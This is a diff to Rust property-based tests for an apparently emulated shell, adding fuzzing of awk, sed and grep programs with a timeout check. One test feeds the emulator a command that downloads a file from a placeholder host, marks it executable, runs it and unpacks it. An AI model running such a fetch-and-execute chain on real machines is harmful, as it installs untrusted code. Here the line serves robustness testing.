@@ -275,7 +275,7 @@ proptest! {
     }
 
     #[test]
-    fn commands_take_any_arguments(name in 0..COMMANDS.len(), arguments in prop::collection::vec("[ -~]{0,12}", 0..5), input in any::<Vec<u8>>()) {
+    fn commands_take_any_arguments(name in 0..COMMANDS.len(), arguments in prop::collection::vec(argument(), 0..5), input in any::<Vec<u8>>()) {
         let host = host("server-debian");
         let mut driver = Driver::new(&host, &Fs::new(&host), "root", true);
         let quoted: Vec<String> = arguments.iter().map(|a| format!("'{}'", a.replace('\'', "x"))).collect();
@@ -284,6 +284,17 @@ proptest! {
             driver.feed(&input);
             driver.end_input();
         }
+    }
+
+    #[test]
+    fn small_languages_end(pieces in prop::collection::vec(token(), 0..24), which in 0..6_usize) {
+        let host = host("server-debian");
+        let mut driver = Driver::new(&host, &Fs::new(&host), "root", true);
+        let program = pieces.concat().replace('\'', "");
+        let command = ["awk", "sed", "grep -E", "expr", "printf", "find /tmp"][which];
+        let began = Instant::now();
+        driver.run(format!("printf 'a b 1\\nc d 2\\n' | {command} '{program}'\n").as_bytes());
+        assert!(began.elapsed() < TIME_MAX);
     }
 
     #[test]
@@ -299,6 +310,103 @@ proptest! {
         driver.served.insert("http://192.0.2.1/f".to_owned(), [head, bytes].concat());
         driver.run(b"cd /tmp; wget -q http://192.0.2.1/f; chmod +x f; ./f; sh f; gunzip -c f; tar tf f; tar xzf f; unzip f\n");
     }
+}
+
+/// Pieces of which programs of `awk`, `sed` and regular expressions are made.
+fn token() -> impl Strategy<Value = String> {
+    let tokens = [
+        "BEGIN",
+        "END",
+        "{",
+        "}",
+        "print ",
+        "printf ",
+        "$1",
+        "$0",
+        "NF",
+        "NR",
+        "(",
+        ")",
+        "[",
+        "]",
+        ";",
+        ",",
+        "\n",
+        "if(",
+        "while(",
+        "for(",
+        "i++",
+        "--i",
+        "i=",
+        "+=",
+        "==",
+        "~",
+        "!~",
+        "/a/",
+        "\"x\"",
+        "1",
+        "0",
+        "%d",
+        "%s",
+        "length",
+        "substr(",
+        "split(",
+        "gsub(",
+        "in ",
+        "a[i]",
+        "?",
+        ":",
+        "s/a/b/",
+        "g",
+        "p",
+        "d",
+        "N",
+        "D",
+        "$!N",
+        "b",
+        "t",
+        ":a",
+        "y/ab/cd/",
+        "a\\",
+        "\\(",
+        "\\)",
+        "\\1",
+        "*",
+        "+",
+        "|",
+        "^",
+        "$",
+        ".",
+        "[[:alpha:]]",
+        "{2,3}",
+        "&",
+        "!",
+        "getline",
+        "next",
+        "exit",
+        "delete ",
+        "do ",
+        "else ",
+        " ",
+        "%*d",
+        "%-5.3s",
+        "^2",
+        "**",
+    ];
+    prop::sample::select(tokens.map(str::to_owned).to_vec())
+}
+
+/// An argument: printable, any text, or what options and expressions are made of.
+fn argument() -> impl Strategy<Value = String> {
+    prop_oneof![
+        "[ -~]{0,12}",
+        "\\PC{0,6}",
+        "-[a-zA-Z0-9]{1,3}",
+        "[-+]?[0-9]{1,20}[kMs]?",
+        r"[\]\[(){}*+?.^$|\\/a&,;0-9]{1,10}",
+        "/(proc|tmp|dev|etc)/[a-z]{0,8}",
+        "[a-z]{2,6}=[0-9a-z/]{0,12}",
+    ]
 }
 
 /// Commands that get random arguments.
